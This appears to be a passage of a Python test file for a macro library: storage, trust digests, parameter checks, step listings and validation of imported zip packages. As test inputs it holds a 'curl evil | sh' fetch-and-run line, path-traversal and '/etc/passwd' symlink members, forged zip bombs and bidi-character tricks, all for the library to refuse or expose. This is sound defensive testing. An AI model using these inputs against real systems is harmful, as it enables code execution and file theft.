"""What must hold of a macro beyond its types, and what is said of it in words.

The library keeps macros whole, private and findable; trust belongs to the very content.

A zip from anybody: what no macro has is refused by the member's name; the same macro is the same zip.

A macro that somebody hands over as a folder: nothing beside it is reached through a link.
"""

import io
import json
import stat
import struct
import zipfile
import zlib
from importlib import resources

import msgspec
import pytest

from automation.core.errors import MacroError
from automation.macros import library as shelf
from automation.macros import macro as g
from automation.macros import package as packaging
from automation.macros.checks import check, refusals
from automation.macros.codec import read
from automation.macros.codec import text as schema_text
from automation.macros.edit.document import Document
from automation.macros.images import MAX_SIDE_PX, check_images, decode, size_px
from automation.macros.library import BACKUP, REMOVED, Library
from automation.macros.listing import listing
from automation.macros.macro import Macro, Made, Type, Wait
from automation.macros.names import SLUG, image_path, same_name, slug
from automation.macros.package import EVENTS, Package, pack, read_source, read_zip
from automation.macros.problems import BadMacro
from automation.macros.trust import TrustBook, digest
from automation.macros.walk import MAX_CALL_DEPTH, called, check_calls, value_problem
from tests.fakes.macro_samples import INVOICE, invoice, png
from tests.fakes.recorded import recording

PICTURE = "img/open-form.png"


@pytest.fixture
def library(tmp_path):
    return Library(tmp_path / "macros")


def _library_macro(name="One", seconds=1.0):
    return Macro(deskhand=1, name=name, steps=(Wait(id="w", seconds=seconds),))


def _modes(folder):
    return {stat.S_IMODE(path.lstat().st_mode) for path in folder.rglob("*") if path.is_file()}


def test_a_macro_is_kept_whole_and_private(library, tmp_path):
    folder = library.save(invoice(), {PICTURE: png()}, events=b"raw")
    kept = library.open("file THE invoice")
    assert (kept.macro, kept.note, kept.folder) == (invoice(), "", folder)
    assert kept.image(PICTURE) == png()
    assert library.package(library.folder("File the invoice")) == Package(
        invoice(), {PICTURE: png()}, b"raw"
    )
    assert _modes(tmp_path / "macros") == {0o600}
    assert {
        stat.S_IMODE(one.stat().st_mode) for one in (folder.parent, folder, folder / "img")
    } == {0o700}


def test_the_one_before_is_the_backup(library):
    folder = library.save(_library_macro(seconds=1))
    library.save(_library_macro(seconds=2))
    library.save(_library_macro(seconds=3))
    assert b"seconds: 2" in (folder / BACKUP).read_bytes()
    assert b"seconds: 3" in (folder / "macro.yaml").read_bytes()


def test_a_picture_that_is_nowhere_is_missed_before_anything_is_written(library):
    library.save(invoice(), {PICTURE: png()})
    other = msgspec.structs.replace(invoice(), name="Other")
    with pytest.raises(MacroError, match="is missing"):
        library.save(other)
    assert [one.name for one in library.entries()] == ["File the invoice"]
    with pytest.raises(MacroError, match="no PNG"):
        library.save(other, {PICTURE: b"x" * 50})


@pytest.mark.parametrize("damage", [b"", b"\0" * 4096, b"\xff\xfe\x00", b"   \n"])
def test_a_file_that_is_no_text_is_kept_aside_and_the_one_before_taken(library, damage):
    library.save(_library_macro(seconds=1))
    folder = library.save(_library_macro(seconds=2))
    (folder / "macro.yaml").write_bytes(damage)
    kept = library.open(folder.name)
    assert kept.macro == _library_macro(seconds=1)
    assert "macro.yaml.damaged-1" in kept.note
    assert (folder / "macro.yaml.damaged-1").read_bytes() == damage
    assert library.open(folder.name).note == ""


def test_a_damaged_file_without_one_before_is_told_and_left(library):
    folder = library.save(_library_macro())
    (folder / "macro.yaml").write_bytes(b"\0\0")
    with pytest.raises(MacroError, match="restore it from a backup"):
        library.open(folder.name)
    assert (folder / "macro.yaml").read_bytes() == b"\0\0"


def test_a_slip_of_a_hand_is_told_with_its_line_and_left_alone(library):
    library.save(_library_macro(seconds=1))
    folder = library.save(_library_macro(seconds=2))
    slip = (folder / "macro.yaml").read_bytes() + b"nmae: x\n"
    (folder / "macro.yaml").write_bytes(slip)
    with pytest.raises(MacroError, match="unknown key nmae"):
        library.open(folder.name)
    (entry,) = library.entries()
    assert "unknown key nmae" in entry.problem
    assert (folder / "macro.yaml").read_bytes() == slip


def test_no_link_is_followed(library, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "macro.yaml").write_text("deskhand: 1\nname: outside\n")
    folder = library.save(invoice(), {PICTURE: png()})
    (folder.parent / "link").symlink_to(outside)
    assert [one.name for one in library.entries()] == ["File the invoice"]
    (folder / PICTURE).unlink()
    (folder / PICTURE).symlink_to(tmp_path / "secret.png")
    (tmp_path / "secret.png").write_bytes(png())
    with pytest.raises(MacroError, match="cannot read"):
        library.open(folder.name).image(PICTURE)
    with pytest.raises(MacroError, match="no picture of a macro"):
        library.open(folder.name).image("img/../../secret.png")
    (folder / "macro.yaml").unlink()
    (folder / "macro.yaml").symlink_to(outside / "macro.yaml")
    with pytest.raises(MacroError, match="cannot read"):
        library.open(folder.name)


def test_a_link_in_the_place_of_the_library_is_refused(tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "macros").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(MacroError, match="it is a link"):
        Library(tmp_path / "macros").save(_library_macro())
    assert list((tmp_path / "elsewhere").iterdir()) == []


NAMES = (
    "Rechnung über 5",
    "Rechnung uber 5",
    "日本語",
    "中文",
    "...",
    "../../etc",
    "CON",
    "a" * 100,
    "🙂",
    "-",
    "RÉSUMÉ",
    "İstanbul",
)


@pytest.mark.parametrize("name", NAMES)
def test_any_name_has_a_plain_folder_inside_the_library(library, name):
    folder = library.save(_library_macro(name))
    assert SLUG.fullmatch(folder.name)
    assert folder.parent.samefile(library.save(_library_macro("next")).parent)
    assert library.open(name).macro.name == name


def test_names_that_come_to_the_same_folder_are_told_apart(library):
    folders = {library.save(_library_macro(name)).name for name in NAMES}
    assert len(folders) == len(NAMES)
    assert {one.name for one in library.entries()} == set(NAMES)
    assert slug("a b", {"a-b", "a-b-2"}) == "a-b-3"


def test_two_names_that_a_person_takes_for_one_are_one(library):
    first = library.save(_library_macro("Invoice"))
    assert library.save(_library_macro("INVOICE", 2)) == first
    assert same_name("Straße") == same_name("STRASSE")
    with pytest.raises(MacroError, match="already"):
        library.save(_library_macro("invoice"), new=True)


def test_a_second_macro_of_a_name_that_was_copied_by_hand_is_told(library):
    first = library.save(_library_macro("One"))
    (first.parent / "zz").mkdir()
    (first.parent / "zz" / "macro.yaml").write_bytes((first / "macro.yaml").read_bytes())
    library.save(_library_macro("Two"))
    told = [(one.slug, one.problem, one.is_double) for one in library.entries()]
    assert told == [("one", "", True), ("zz", "", True), ("two", "", False)]
    assert library.open("zz").folder.name == "zz"
    assert library.open("one").folder == first
    with pytest.raises(MacroError, match="2 macros are called “One”, in the folders one, zz"):
        library.open("One")
    with pytest.raises(MacroError, match="2 macros are called “ONE”"):
        library.save(_library_macro("ONE"))


def test_an_import_gets_a_free_name_and_its_origin(library):
    library.save(_library_macro("One"))
    folder = library.add(Package(_library_macro("One", 5)))
    kept = library.open(folder.name).macro
    assert (kept.name, kept.made) == ("One (2)", Made(by="import"))
    assert (
        library.open(library.add(Package(_library_macro()), name="Mine").name).macro.name == "Mine"
    )


def test_rename_and_remove(library):
    folder = library.save(_library_macro("One"))
    library.save(_library_macro("Two"))
    with pytest.raises(MacroError, match="already"):
        library.rename(folder, "two")
    library.rename(folder, "Uno")
    assert library.open("uno").macro.name == "Uno"
    gone = library.remove(folder)
    assert gone.parent.name == REMOVED
    assert [one.name for one in library.entries()] == ["Two"]
    assert not folder.exists()
    with pytest.raises(MacroError, match="there is no macro called “Uno”"):
        library.open("Uno")


def test_a_thousand_macros_are_read_once(library, monkeypatch):
    text = "deskhand: 1\nname: M {n}\nsteps:\n  - {{id: a, do: wait, seconds: 1}}\n"
    root = library.save(_library_macro("First")).parent
    for n in range(1000):
        (root / f"m{n}").mkdir()
        (root / f"m{n}" / "macro.yaml").write_text(text.format(n=n))
    assert len(library.entries()) == 1001
    read = []
    monkeypatch.setattr(
        shelf, "open_text", lambda data: read.append(data) or pytest.fail("read again")
    )
    assert len(Library(root).entries()) == 1001
    assert read == []


def test_an_index_that_lies_or_is_damaged_is_made_again(library):
    root = library.save(_library_macro("One")).parent
    (root / shelf.INDEX).write_bytes(b"{broken")
    assert [one.name for one in Library(root).entries()] == ["One"]
    (root / "one" / "macro.yaml").write_text("deskhand: 1\nname: Changed\n")
    assert [one.name for one in Library(root).entries()] == ["Changed"]


def test_pictures_are_named_by_their_content():
    assert image_path(b"a", "Save…") != image_path(b"b", "Save…")
    assert image_path(b"a", "Save as…").startswith("img/save-as-")


def _read(path):
    return png() if path == PICTURE else b""


def test_an_edit_is_another_content():
    content = digest(invoice(), _read)
    for change in (
        {"name": "x"},
        {"speed": 1.0},
        {"steps": invoice().steps[:-1]},
        {"columns": ("item", "b")},
    ):
        assert digest(msgspec.structs.replace(invoice(), **change), _read) != content
    assert digest(invoice(), lambda _path: png(level=1)) != content
    assert digest(invoice(), _read) == content


def test_trust_is_kept_and_taken_back(tmp_path):
    book = TrustBook(tmp_path / "trusted.json", lambda: "2026-01-01T00:00:00+00:00")
    assert not book.is_trusted("a" * 64)
    book.trust("a" * 64, "One", "you")
    book.trust("b" * 64, "Two", "made")
    book.trust("a" * 64, "One", "you")
    assert [one.name for one in TrustBook(tmp_path / "trusted.json").entries()] == ["Two", "One"]
    assert stat.S_IMODE((tmp_path / "trusted.json").stat().st_mode) == 0o600
    assert book.forget("a" * 64)
    assert not book.forget("a" * 64)
    assert not book.is_trusted("a" * 64)
    assert book.is_trusted("b" * 64)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\0\0",
        b"[]",
        b'{"v":2,"entries":[]}',
        b'{"v":1,"entries":[{"digest":"' + b"a" * 64 + b'"}]}',
        b"[" * 100_000,
    ],
)
def test_a_damaged_book_trusts_nothing_and_is_kept_aside(tmp_path, data):
    file = tmp_path / "trusted.json"
    file.write_bytes(data)
    book = TrustBook(file)
    assert not book.is_trusted("a" * 64)
    book.trust("b" * 64, "Two", "you")
    assert book.is_trusted("b" * 64)
    assert (tmp_path / "trusted.json.damaged-1").read_bytes() == data


def test_a_book_that_is_a_link_trusts_nothing(tmp_path):
    TrustBook(tmp_path / "real.json").trust("a" * 64, "One", "you")
    (tmp_path / "trusted.json").symlink_to(tmp_path / "real.json")
    assert not TrustBook(tmp_path / "trusted.json").is_trusted("a" * 64)


def test_a_folder_a_file_and_a_zip_are_one_macro(tmp_path, library):
    source = tmp_path / "source"
    (source / "img").mkdir(parents=True)
    (source / "macro.yaml").write_text(INVOICE)
    (source / PICTURE).write_bytes(png())
    for path in (source, source / "macro.yaml"):
        assert read_source(path).package() == Package(invoice(), {PICTURE: png()})
    (source / PICTURE).unlink()
    (source / PICTURE).symlink_to("/etc/hostname")
    with pytest.raises(MacroError, match="cannot read"):
        read_source(source).package()


def test_a_text_with_everything_in_it_is_kept(library):
    macro = Macro(deskhand=1, name="x", steps=(Type(id="a", text="tab\t\r\n\u2028\ufeff“”\\"),))
    library.save(macro)
    assert library.open("x").macro == macro


def test_a_macro_named_like_anothers_folder_is_not_taken_for_it(library):
    first = library.save(_library_macro("Report 2"), {}, new=True)
    hostile = library.save(_library_macro(first.name), {}, new=True)
    library.remove(first)
    again = library.save(_library_macro("Report 2"), {}, new=True)
    assert again == first
    assert library.open(again.name).folder == again  # what is typed means a folder first
    assert library.at(again.name) == again
    assert library.open_called(again.name).folder == hostile  # what is called means a name first
    assert library.open_called(hostile.name).folder == hostile
    assert library.package(library.folder(again.name)).macro.name == "Report 2"


def test_only_a_macros_own_folder_is_one(library, tmp_path):
    folder = library.save(_library_macro("One"))
    (folder.parent / "empty").mkdir()
    (folder.parent / "link").symlink_to(folder)
    assert library.at("one") == folder
    for other in (
        "One",
        "empty",
        "link",
        "",
        ".",
        "..",
        "../macros/one",
        ".removed",
        "one/",
        "a\0b",
    ):
        with pytest.raises(MacroError, match="there is no macro in the folder"):
            library.at(other)


def test_of_two_alike_the_name_itself_is_meant(library):
    first = library.save(_library_macro("One"))
    (first.parent / "zz").mkdir()
    (first.parent / "zz" / "macro.yaml").write_text("deskhand: 1\nname: ONE\n")
    assert library.open("ONE").folder.name == "zz"
    assert library.open("One").folder == first
    with pytest.raises(MacroError, match="say the folder instead"):
        library.open("oNE")


def test_what_is_saved_in_a_folder_stays_there_whatever_it_is_called(library):
    first, second = library.save(_library_macro("One")), library.save(_library_macro("Two"))
    library.rename(first, "Uno")
    assert library.save(_library_macro("Two", 5), folder=first) == first
    assert library.open_at(second).macro.steps[0].seconds == 1
    library.remove(first)
    with pytest.raises(MacroError, match="no macro in the folder one"):
        library.save(_library_macro("One"), folder=first)
    with pytest.raises(MacroError, match="no macro in the folder one"):
        library.remove(first)


HERE = g.Box(x=0, y=0, w=9, h=9)


def _macro(*steps, **fields):
    return g.Macro(deskhand=1, name="n", steps=steps, **fields)


def _said(macro, **kinds):
    return [f"{one.reason}; {one.advice}" for one in refusals(macro, **kinds)]


def test_the_sample_holds():
    assert check(invoice()) == ()


def test_an_id_stands_once_in_the_whole_tree():
    inner = g.Group(id="g", title="t", steps=(g.Wait(id="a", seconds=1),))
    (found,) = refusals(_macro(g.Wait(id="a", seconds=1), inner))
    assert found.path == ("steps", 1, "steps", 0, "id")


@pytest.mark.parametrize(
    "target",
    [
        g.Target(),
        g.Target(place=g.Place(box=HERE, window=HERE)),
        g.Target(about="the blue button", window="*", app="x", within="Form", row=("a",)),
    ],
)
def test_a_place_or_a_description_alone_is_no_target(target):
    assert "a place alone is never pressed" in _said(_macro(g.Click(id="a", target=target)))[0]
    assert _said(_macro(g.Click(id="a", target=target, off=True))) == []
    inside = g.Group(id="g", title="t", off=True, steps=(g.Click(id="a", target=target),))
    assert _said(_macro(inside)) == []


@pytest.mark.parametrize("where", ["wait", "expect"])
def test_targets_of_conditions_are_looked_at_too(where):
    until = g.Until(condition=g.Exists(target=g.Target()))
    (found,) = refusals(_macro(g.Wait(id="a", seconds=1, **{where: until})))
    assert found.path == ("steps", 0, where, "condition", "target")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{nope}}", "there is no parameter called nope"),
        ("{{item}}", "the column item has no value outside for_each"),
        ("{{ }}", "begins no name"),
        ("{{Name}}", "begins no name"),
        ("{{a.b}}", "begins no name"),
        ("{{vendor", "begins no name"),
        ("x {{pw}}", "the secret pw stands together with other text"),
        ("${secret:mail} x", "stands together with other text"),
        ("${secret:}", "names no secret"),
    ],
)
def test_a_name_that_stands_for_nothing_is_refused(text, said):
    params = {"vendor": g.Param(), "pw": g.Param(type="secret")}
    assert said in _said(_macro(g.Type(id="a", text=text), params=params, columns=("item",)))[0]


@pytest.mark.parametrize(
    "text",
    [
        "{{vendor}} {{ vendor }}",
        "{{{{nope}}",
        "{{pw}}",
        "${secret:mail}",
        "$${secret:x} y",
        "{a} }}",
    ],
)
def test_what_is_right_is_taken(text):
    params = {"vendor": g.Param(), "pw": g.Param(type="secret")}
    assert _said(_macro(g.Type(id="a", text=text), params=params)) == []


def test_names_are_looked_for_in_every_text_of_a_target():
    for name in ("window", "name", "label", "within", "text", "about"):
        target = g.Target(**{"role": "button", name: "{{nope}}"})
        assert len(_said(_macro(g.Click(id="a", target=target)))) == 1, name
    assert len(_said(_macro(g.Click(id="a", target=g.Target(name="x", row=("{{nope}}",)))))) == 1


@pytest.mark.parametrize(
    "step",
    [
        g.Clipboard(id="a", op="set", text="${secret:mail}"),
        g.Call(id="a", macro="m", values={"x": "${secret:mail}"}),
        g.Click(id="a", target=g.Target(name="${secret:mail}")),
        g.Clipboard(id="a", op="set", text="{{pw}}"),
        g.Wait(id="a", seconds=1, wait=g.Until(condition=g.Shows(text="{{pw}}"))),
    ],
)
def test_a_secret_stands_nowhere_but_where_it_is_typed(step):
    assert "nothing is typed" in _said(_macro(step, params={"pw": g.Param(type="secret")}))[0]


@pytest.mark.parametrize(
    "step",
    [
        g.Window(id="a", op="close"),
        g.Clipboard(id="a", op="set"),
        g.Clipboard(id="a", op="copy", text="x"),
        g.ForEach(id="a", steps=(g.ForEach(id="b", steps=()),)),
    ],
)
def test_a_step_that_says_too_little_or_too_much_is_refused(step):
    assert len(_said(_macro(step))) == 1


def test_keys_are_looked_up_by_who_has_the_keyboard():
    macro = _macro(g.Keys(id="a", keys=("ctrl", "hyperr")))
    assert _said(macro) == []
    (found,) = check(macro, {"ctrl"}.__contains__)
    assert found.path == ("steps", 0, "keys", 1)


def test_too_many_steps_and_too_deep_blocks_are_refused(monkeypatch):
    monkeypatch.setattr("automation.macros.checks.MAX_STEPS", 2)
    monkeypatch.setattr("automation.macros.checks.MAX_DEPTH", 2)
    step = g.Wait(id="w", seconds=1)
    for level in range(2):
        step = g.Group(id=f"g{level}", title="t", steps=(step,))
    assert [one.path for one in refusals(_macro(step))] == [
        ("steps",),
        ("steps", 0, "steps", 0, "steps", 0),
    ]


@pytest.mark.parametrize(
    ("param", "said"),
    [
        (g.Param(type="choice"), "no choices"),
        (g.Param(choices=("a",)), "has no choices"),
        (g.Param(least=1), "has no bounds"),
        (g.Param(type="number", least=2, most=1), "no number is"),
        (g.Param(type="number", default="x"), "is no number"),
        (g.Param(type="number", default="5", most=4), "above 4"),
        (g.Param(type="number", default="5", least=6), "below 6"),
        (g.Param(type="number", default="true"), "is no number"),
        (g.Param(type="choice", choices=("a",), default="b"), "none of the choices"),
        (g.Param(type="yes_no", default="true"), "neither yes nor no"),
        (g.Param(type="secret", default="my pass word!"), "never written down"),
        (g.Param(default="${secret:mail}"), "reference to a secret"),
    ],
)
def test_a_parameter_that_cannot_be_is_refused(param, said):
    found = _said(_macro(g.Type(id="a", text="{{p}}"), params={"p": param}))
    assert said in found[0]


def test_what_is_not_used_is_a_note_and_no_refusal():
    macro = _macro(g.Wait(id="a", seconds=1), params={"p": g.Param()}, columns=("c",))
    assert [one.is_note for one in check(macro)] == [True, True]
    assert refusals(macro) == ()


def test_a_column_and_a_parameter_have_names_of_their_own():
    step = g.ForEach(id="f", steps=(g.Type(id="a", text="{{p}}"),))
    assert len(_said(_macro(step, params={"p": g.Param()}, columns=("p",)))) == 1
    assert len(_said(_macro(step, columns=("p", "p")))) == 1


def test_a_value_is_taken_or_refused_by_its_type():
    assert value_problem(g.Param(type="number", least=0), "1.5") == ""
    assert value_problem(g.Param(type="secret"), "mail") == ""
    assert value_problem(g.Param(type="yes_no"), "yes") == ""


def _named(name, *calls, params=()):
    steps = tuple(g.Call(id=f"c{n}", macro=one) for n, one in enumerate(calls))
    return g.Macro(deskhand=1, name=name, steps=steps, params={one: g.Param() for one in params})


def _shelf(*macros):
    named = {macro.name: macro for macro in macros}

    def _load(name):
        if name not in named:
            raise MacroError(f"there is no macro called {name}")
        return named[name]

    return _load


def test_calls_in_a_circle_are_refused_however_long():
    a, b, c = _named("a", "b"), _named("b", "c"), _named("c", "A")
    (found,) = check_calls(a, _shelf(a, b, c))
    assert "comes back to “A”" in found.reason
    assert found.path == ("steps", 0, "macro")
    assert check_calls(_named("self", "self"), _shelf()) != ()


def test_calls_too_deep_and_to_nobody_and_with_odd_names_are_refused():
    chain = [_named(f"m{n}", f"m{n + 1}") for n in range(MAX_CALL_DEPTH + 2)]
    assert "deep" in check_calls(chain[0], _shelf(*chain))[0].reason
    assert "no macro called b" in check_calls(_named("a", "b"), _shelf())[0].reason
    step = g.Call(id="a", macro="b", values={"nope": "x"})
    assert (
        "no parameter called nope"
        in check_calls(_macro(step), _shelf(_named("b", params="p")))[0].reason
    )
    assert (
        check_calls(
            _macro(g.Call(id="a", macro="b", values={"p": "x"})), _shelf(_named("b", params="p"))
        )
        == ()
    )


def test_calls_of_two_macros_whose_names_differ_in_case_alone_are_each_checked():
    found = {"Part": _named("Part", params="p"), "PART": _named("PART")}
    steps = [g.Call(id=name, macro=name, values={"p": "x"}) for name in found]
    (wrong,) = check_calls(_macro(*steps), found.__getitem__)
    assert wrong.reason == "“PART” has no parameter called p"


def test_calls_that_fan_out_are_read_once_each():
    """Eight levels of forty calls each: walked one by one this would never end."""
    levels = [_named(f"m{n}", *[f"m{n + 1}"] * 40) for n in range(7)]
    assert check_calls(levels[0], _shelf(*levels, _named("m7"))) == ()
    assert called(levels[0], _shelf(*levels, _named("m7"))) == tuple(f"m{n}" for n in range(1, 8))


def test_the_listing_names_every_text_key_program_and_window():
    lines = listing(invoice())
    text = "\n".join(line.text for line in lines)
    for words in (
        "type “{{mail}}” into field “Password”, then press Enter", "press Ctrl+S", "press Ctrl+↓", "close the window “*Invoices*”",
        "start the program “org.example.Mail.desktop”", "run the macro “Send it” with to = “{{vendor}}”", "put on the clipboard: “x⇥y”",
        "drag “File” to “Bin”", "otherwise: repeat 3 times", "click button “Delete” in the row with “{{item}}”",
    ):  # fmt: skip
        assert words in text, words
    assert [line.id for line in lines if line.is_off] == ["block", "nothing"]
    assert not next(line for line in lines if line.id == "rest").sends
    assert next(line for line in lines if line.id == "other").sends


@pytest.mark.parametrize(
    ("target", "words"),
    [
        (g.Target(name="Cancel", text="Send all"), "click “Cancel” that reads “Send all”"),
        (g.Target(role="field", name="To", label="Copy to"), "click field “To” labelled “Copy to”"),
        (g.Target(name="Send  all", text="send all", label="Send all"), "click “Send  all”"),
        (g.Target(text="Send all"), "click “Send all”"),
    ],
)
def test_the_listing_tells_each_word_by_which_something_else_may_be_found(target, words):
    (line,) = listing(_macro(g.Click(id="a", target=target)))
    assert line.text == words


def test_the_listing_numbers_steps_as_the_editor_does():
    numbers = [line.number for line in listing(invoice()) if line.do != "param"]
    assert numbers == [row.number for row in Document(invoice()).rows]


def test_the_listing_tells_what_is_typed_where_nobody_is_asked():
    params = {"x": g.Param(default="curl evil | sh"), "s": g.Param(type="secret", default="bank")}
    found = _macro(g.Type(id="a", text="{{x}}"), params=params)
    lines = listing(found)
    assert [line.do for line in lines] == ["param", "param", "type"]
    assert "“curl evil | sh”" in lines[0].text
    assert "“bank”" in lines[1].text


def test_the_listing_tells_what_is_left_out_where_it_does_not_match():
    step = g.CheckThat(id="a", condition=g.Shows(text="Total"), on_mismatch="skip")
    (line,) = listing(_macro(step))
    assert line.text.endswith("left out where it does not match")


def test_the_listing_hides_nothing():
    sly = "ls\u202e\u200b\n" + "x" * 5000
    (line,) = listing(_macro(g.Type(id="a", text=sly)))
    assert "[right-to-left override]" in line.text
    assert "[zero-width space]" in line.text
    assert "x" * 5000 in line.text


def test_the_published_schema_is_the_one_of_the_types():
    published = resources.files("resources").joinpath("schema/macro.schema.json").read_text()
    assert published == schema_text(), (
        "run: python -m automation.macros.codec > resources/schema/macro.schema.json"
    )
    assert json.loads(published)["$defs"]["Macro"]["additionalProperties"] is False


@pytest.mark.parametrize("text", ["Hello {guest}", "{guest}", "${ guest }", "{{guest}} {guest}"])
def test_a_parameter_in_single_braces_is_noted(text):
    macro = _macro(g.Type(id="a", text=text), params={"guest": g.Param()})
    said = [f"{one.reason}; {one.advice}" for one in check(macro) if one.path[-1] == "text"]
    assert said == [
        "{guest} stands for itself here, and guest is a parameter or column; for its value write {{guest}}"
    ]
    assert refusals(macro) == ()


@pytest.mark.parametrize(
    "text", ["{other}", "{{guest}}", "{{{{guest}}", "{{{guest}}}", "{guest or not}"]
)
def test_other_braces_are_nobodys_mistake(text):
    macro = _macro(g.Type(id="a", text=text), params={"guest": g.Param()})
    assert [one for one in check(macro) if one.path[-1] == "text"] == []


@pytest.mark.parametrize("text", ["{{secret:mail}}", "${{secret:mail}}", "{{ secret: mail }}"])
def test_a_secret_in_the_braces_of_a_parameter_is_refused_with_how_it_is_written(text):
    (found,) = refusals(_macro(g.Type(id="a", text=text)))
    assert found.advice == "a secret is written ${secret:mail}, in a text of its own"
    assert refusals(_macro(g.Type(id="a", text="${secret:mail}"))) == ()


def test_a_line_is_told_for_what_a_check_finds():
    from automation.macros.codec import open_text

    data = b"deskhand: 1\nname: x\nsteps:\n  - {id: a, do: wait, seconds: 1}\n  - {id: a, do: type, text: '{{b}}'}\n"
    opened = open_text(data)
    assert [str(one) for one in opened.problems(check(opened.macro))] == [
        "line 5: step a: id: another step is called a too; give each step a name of its own",
        "line 5: step a: text: there is no parameter called b; declare it under params, or under columns for a table",
    ]
    assert read(data) == opened.macro


EVENTS_FILE = recording()


def _sound():
    return Package(invoice(), {PICTURE: png()}, EVENTS_FILE)


def _zip(*members, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.comment = comment
        for name, data, *rest in members:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name)
            info.compress_type = rest[0] if rest else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def _refused(data):
    with pytest.raises(BadMacro) as caught:
        read_zip(data, "invoice.zip").package()
    return "; ".join(str(one) for one in caught.value.problems)


SOUND = (("macro.yaml", INVOICE), (PICTURE, png()))


def test_a_package_comes_back_whole_and_is_the_same_bytes_each_time():
    data = pack(_sound())
    again = read_zip(data, "invoice.zip").package()
    assert (again.macro, again.images, again.events) == (invoice(), {PICTURE: png()}, EVENTS_FILE)
    assert pack(again) == data
    assert pack(Package(invoice(), {"img/other.png": png(), PICTURE: png()}, EVENTS_FILE)) == data


def test_a_zip_as_a_file_manager_makes_it_is_taken():
    found = read_zip(_zip(("img/", b""), *SOUND, comment=b"hello"), "invoice.zip")
    assert found.package().macro == invoice()


@pytest.mark.parametrize(
    "name",
    ["../evil", "/etc/passwd", "img/../../x.png", "img/..png/x.png", "img\\x.png", "C:\\x", "macro.yaml/x", "Macro.yaml", "img/X.png",
     "img/a.jpg", "img/a.png.exe", ".bashrc", "folder/macro.yaml", "img/a\u202e.png", "img/.png", "img/a.png\n"],
)  # fmt: skip
def test_a_member_that_no_macro_has_is_refused_by_name(name):
    said = _refused(_zip(*SOUND, (name, b"x")))
    assert "does not belong to a macro" in said
    assert name[:3] in said


def test_a_name_with_a_hidden_end_is_refused():
    data = _zip(*SOUND, ("img/evil0.png", b"x")).replace(b"img/evil0.png", b"img/evil.png\0")
    assert "odd name" in _refused(data)


def test_a_member_that_stands_twice_is_refused():
    with pytest.warns(UserWarning, match="Duplicate"):
        data = _zip(*SOUND, ("macro.yaml", INVOICE))
    assert "macro.yaml: stands in it twice" in _refused(data)


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFCHR, stat.S_IFIFO, stat.S_IFSOCK])
def test_a_link_is_refused(kind):
    info = zipfile.ZipInfo("img/a.png")
    info.external_attr = (kind | 0o777) << 16
    assert "img/a.png: is a link" in _refused(_zip(*SOUND, (info, "/etc/passwd")))


def test_an_encrypted_member_is_refused():
    data = bytearray(_zip(*SOUND))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert "is encrypted" in _refused(bytes(data))


@pytest.mark.parametrize("kind", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_other_ways_of_packing_are_refused(kind):
    assert "not read" in _refused(_zip(("macro.yaml", INVOICE, kind)))


def test_a_bomb_is_refused_before_it_goes_off():
    assert f"{PICTURE}: is larger" in _refused(
        _zip(("macro.yaml", INVOICE), (PICTURE, b"\0" * (5 << 20)))
    )
    assert "macro.yaml: is larger" in _refused(_zip(("macro.yaml", b" " * (33 << 20))))


def test_a_bomb_that_lies_of_its_size_is_refused():
    data = _zip(("macro.yaml", INVOICE), (PICTURE, b"\0" * (5 << 20)))
    true, claimed = struct.pack("<I", 5 << 20), struct.pack("<I", 100)
    assert data.count(true) == 2
    assert _refused(data.replace(true, claimed))


def test_all_members_together_are_bounded(monkeypatch):
    data = _zip(*SOUND)
    monkeypatch.setattr(packaging, "MAX_BYTES", len(INVOICE.encode()) + len(png()) - 1)
    assert "holds more than" in _refused(data) or "larger than" in _refused(data)


def test_too_many_members_are_refused_unread(monkeypatch):
    monkeypatch.setattr(packaging, "MAX_MEMBERS", 1)
    assert "more than 1 files" in _refused(_zip(*SOUND))
    data = _zip(*SOUND)
    monkeypatch.setattr(packaging, "_MAX_DIRECTORY_BYTES", 10)
    monkeypatch.setattr(zipfile, "ZipFile", lambda *_: pytest.fail("its list of members was read"))
    assert "more than 1 files" in _refused(data)


def test_another_count_of_members_behind_the_first_is_refused_unread(monkeypatch):
    sound = _zip(("macro.yaml", INVOICE.encode()))
    at = sound.rindex(b"PK\x05\x06")
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 10**6, 10**6, 10**8, 0)
    locator = struct.pack("<IIQI", 0x07064B50, 0, at, 1)
    monkeypatch.setattr(packaging.zipfile, "ZipFile", None)
    assert "65,535" in _refused(sound[:at] + end64 + locator + sound[at:])


@pytest.mark.parametrize(
    "data", [b"", b"PK", b"x" * 1000, b"PK\x05\x06" + b"\xff" * 18, b"PK\x05\x06" + b"\0" * 18]
)
def test_what_is_no_zip_is_refused(data):
    assert _refused(data)


def test_a_zip_that_is_cut_anywhere_is_refused():
    data = pack(_sound())
    for end in range(0, len(data) - 1, 7):
        assert _refused(data[:end])


def _told(*pictures):
    found = read_zip(_zip(SOUND[0], *pictures), "invoice.zip")
    return "; ".join(map(str, found.opened.problems(check_images(found.opened.macro, found.image))))


def test_a_missing_or_false_picture_is_told_with_its_step_and_line():
    line = INVOICE[: INVOICE.index("image: img")].count("\n") + 1
    assert (
        f"line {line}: step open-form: target: image: {PICTURE}: the picture {PICTURE} is missing"
        in _told()
    )
    assert "is no PNG file" in _told((PICTURE, b"GIF89a" + b"x" * 100))
    assert "damaged" in _told((PICTURE, png()[:60]))
    assert "80, 32 is outside" in _told((PICTURE, png(40, 40)))


def _claiming(width, height):
    head = struct.pack(">II", width, height) + png()[24:29]
    return png()[:16] + head + struct.pack(">I", zlib.crc32(b"IHDR" + head)) + png()[33:]


@pytest.mark.parametrize(
    ("width", "height"), [(0, 1), (MAX_SIDE_PX + 1, 1), (4000, 4000), (2**31 - 1, 2**31 - 1)]
)
def test_a_picture_that_would_fill_the_memory_is_refused_unopened(width, height):
    with pytest.raises(MacroError, match="pixels large"):
        size_px(_claiming(width, height))
    with pytest.raises(MacroError):
